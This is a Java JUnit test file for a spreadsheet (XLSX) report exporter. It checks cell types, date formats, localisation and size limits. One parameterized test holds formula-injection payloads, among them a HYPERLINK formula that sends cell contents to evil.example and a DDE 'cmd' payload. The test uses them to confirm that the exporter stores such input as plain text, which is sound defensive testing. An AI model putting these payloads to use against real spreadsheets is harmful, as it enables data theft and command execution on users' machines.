package io.waybill.api.download;

import static org.assertj.core.api.Assertions.assertThat;

import io.waybill.messages.report.Report.Column;
import io.waybill.messages.report.Report.Kind;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Instant;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.zip.ZipFile;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.ReadingOptions;
import org.dhatim.fastexcel.reader.Row;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Workbooks, written and opened again with a reader. */
class XlsxTest {

    private static final List<Column> COLUMNS = List.of(
            new Column("day", Kind.DATE),
            new Column("productName", Kind.TEXT),
            new Column("sold", Kind.COUNT),
            new Column("onTimeShare", Kind.DECIMAL),
            new Column("amount", Kind.MONEY));

    @Test
    void numbers_are_numbers_and_days_are_days() throws IOException {
        var rows = sheets(written(row("ชาเขียว"))).get("Data");

        assertThat(rows.getFirst().stream().map(cell -> cell.asString()))
                .containsExactly("Day", "Product", "Sold", "Share on time", "Amount");
        var row = rows.get(1);
        assertThat(row.getCell(0).getType()).isEqualTo(CellType.NUMBER);
        assertThat(row.getCell(0).asDate()).isEqualTo(LocalDateTime.of(2026, 11, 21, 0, 0));
        assertThat(row.getCell(0).getDataFormatString()).isEqualTo("yyyy-mm-dd");
        assertThat(row.getCell(1).asString()).isEqualTo("ชาเขียว");
        assertThat(row.getCell(2).asNumber()).isEqualByComparingTo("-3");
        assertThat(row.getCell(3).asNumber()).isEqualByComparingTo("0.8333");
        assertThat(row.getCell(4).asNumber()).isEqualByComparingTo("1234567.50");
        assertThat(row.getCell(4).getDataFormatString()).isEqualTo("#,##0.00");
    }

    @Test
    void a_moment_is_a_time_of_a_day_that_one_can_compute_with() throws IOException {
        var row = row("Tea");
        row.put("day", Instant.parse("2026-11-21T17:45:30Z"));

        var cell = sheets(written(row)).get("Data").get(1).getCell(0);

        assertThat(cell.getType()).isEqualTo(CellType.NUMBER);
        assertThat(cell.asDate()).isEqualTo(LocalDateTime.of(2026, 11, 21, 17, 45, 30));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example?\"&A1)",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(A1)",
                "12",
                "2026-11-21",
                "<f>1+1</f>"
            })
    void whatever_a_text_begins_with_it_is_a_text(String text) throws IOException {
        byte[] file = written(row(text));

        var cell = sheets(file).get("Data").get(1).getCell(1);
        assertThat(cell.getType()).isEqualTo(CellType.STRING);
        assertThat(cell.asString()).isEqualTo(text);
        assertThat(cell.getFormula()).isNull();
        assertThat(part(file, "xl/worksheets/sheet1.xml"))
                .contains("t=\"inlineStr\"")
                .doesNotContain("<f>");
    }

    @Test
    void what_no_workbook_can_hold_does_not_break_it() throws IOException {
        String longest = "ก".repeat(40_000);
        var file = written(row("a\u0000b\u0007c\uD800d\uFFFFe"), row(longest), row("😀".repeat(20_000)));

        var rows = sheets(file).get("Data");
        assertThat(rows.get(1).getCell(1).asString()).isEqualTo("a\uFFFDb\uFFFDc\uFFFDd\uFFFDe");
        assertThat(rows.get(2).getCell(1).asString()).hasSize(32_767);
        assertThat(rows.get(3).getCell(1).asString()).hasSize(32_766).endsWith("😀");
    }

    @Test
    void a_number_that_excel_would_round_stays_exact_as_a_text() throws IOException {
        var row = row("Tea");
        row.put("amount", Map.of("amount", "1234567890123456.70", "currency", "THB"));
        row.put("sold", Long.MAX_VALUE);

        var read = sheets(written(row)).get("Data").get(1);

        assertThat(read.getCell(4).asString()).isEqualTo("1234567890123456.70");
        assertThat(read.getCell(2).asString()).isEqualTo("9223372036854775807");
    }

    @Test
    void the_heads_stay_in_sight() throws IOException {
        assertThat(part(written(row("Tea")), "xl/worksheets/sheet1.xml"))
                .contains("ySplit=\"1\"")
                .contains("state=\"frozen\"");
    }

    @Test
    void totals_and_what_was_asked_have_sheets_of_their_own() throws IOException {
        var sheets = sheets(written(row("Tea")));

        assertThat(sheets.keySet()).containsExactly("Data", "Totals", "About");
        assertThat(sheets.get("Totals").getFirst().stream().map(cell -> cell.asString()))
                .containsExactly("Sold", "Amount");
        assertThat(sheets.get("Totals").get(1).getCell(0).asNumber()).isEqualByComparingTo(BigDecimal.TEN);
        assertThat(sheets.get("About").getFirst().getCellText(0)).isEqualTo("Sales summary");
        assertThat(sheets.get("About").getLast().getCellText(0)).isEqualTo("Location");
        assertThat(sheets.get("About").getLast().getCell(1).getType()).isEqualTo(CellType.STRING);
        assertThat(sheets.get("About").getLast().getCellText(1)).isEqualTo("=BANGKOK");
    }

    @Test
    void people_read_their_language() throws IOException {
        var sheets = sheets(written(new Xlsx(subject(), Language.THAI), List.of(row("Tea"))));

        assertThat(sheets.keySet()).containsExactly("ข้อมูล", "ยอดรวม", "เกี่ยวกับ");
        assertThat(sheets.get("ข้อมูล").getFirst().getCellText(4)).isEqualTo("จำนวนเงิน");
    }

    @Test
    void what_is_more_than_a_sheet_takes_goes_on_on_another() throws IOException {
        var sheets = sheets(written(new Xlsx(subject(), Language.ENGLISH, 2), List.of(row("1"), row("2"), row("3"))));

        assertThat(sheets.keySet()).containsExactly("Data", "Data 2", "Totals", "About");
        assertThat(sheets.get("Data").getLast().getCellText(1)).isEqualTo("2");
        assertThat(sheets.get("Data 2")).hasSize(2);
        assertThat(sheets.get("Data 2").getLast().getCellText(1)).isEqualTo("3");
    }

    @Test
    void without_rows_it_still_opens() throws IOException {
        assertThat(sheets(written()).get("Data")).hasSize(1);
    }

    private static Subject subject() {
        Map<String, @Nullable Object> total = new LinkedHashMap<>();
        total.put("sold", 10L);
        total.put("amount", Map.of("amount", "99.50", "currency", "THB"));
        return new Subject("Sales summary", COLUMNS, List.of(total), Map.of("Location", "=BANGKOK"), null);
    }

    private static Map<String, @Nullable Object> row(String name) {
        Map<String, @Nullable Object> row = new HashMap<>();
        row.put("day", "2026-11-21");
        row.put("productName", name);
        row.put("sold", -3);
        row.put("onTimeShare", 0.8333);
        row.put("amount", Map.of("amount", "1234567.50", "currency", "THB"));
        return row;
    }

    @SafeVarargs
    private static byte[] written(Map<String, @Nullable Object>... rows) {
        List<Map<String, @Nullable Object>> all = new ArrayList<>();
        for (var row : rows) {
            all.add(row);
        }
        return written(new Xlsx(subject(), Language.ENGLISH), all);
    }

    private static byte[] written(Xlsx file, List<Map<String, @Nullable Object>> rows) {
        var bytes = new ByteArrayOutputStream();
        bytes.writeBytes(file.rows(rows));
        bytes.writeBytes(file.end());
        return bytes.toByteArray();
    }

    /** The sheets of a workbook, in their order. */
    private record Sheets(Map<String, List<Row>> rows) {

        List<Row> get(String name) {
            return Objects.requireNonNull(rows.get(name), name);
        }

        Set<String> keySet() {
            return rows.keySet();
        }
    }

    private static Sheets sheets(byte[] file) throws IOException {
        Map<String, List<Row>> sheets = new LinkedHashMap<>();
        try (var workbook = new ReadableWorkbook(new ByteArrayInputStream(file), new ReadingOptions(true, true))) {
            for (var sheet : workbook.getSheets().toList()) {
                sheets.put(sheet.getName(), sheet.read());
            }
        }
        return new Sheets(sheets);
    }

    private static String part(byte[] file, String name) throws IOException {
        var copy = Files.createTempFile("workbook", ".xlsx");
        try {
            Files.write(copy, file);
            try (var zip = new ZipFile(copy.toFile());
                    var part = zip.getInputStream(Objects.requireNonNull(zip.getEntry(name), name))) {
                return new String(part.readAllBytes(), StandardCharsets.UTF_8);
            }
        } finally {
            Files.delete(copy);
        }
    }
}
